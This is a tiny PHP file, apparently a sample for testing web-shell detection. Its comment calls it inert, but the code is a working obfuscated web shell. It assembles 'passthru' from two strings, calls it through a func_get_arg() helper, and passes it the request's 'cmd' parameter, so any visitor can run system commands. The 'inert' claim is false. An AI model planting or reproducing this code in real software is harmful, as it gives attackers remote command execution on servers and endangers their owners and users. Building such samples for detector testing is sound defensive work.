<?php
// inert test sample: a helper declares no parameters and hands back its first argument through
// func_get_arg(); the name it is given is called with the request's command
function pick()
{
    return func_get_arg(0);
}

pick('pass' . 'thru')($_REQUEST['cmd']);
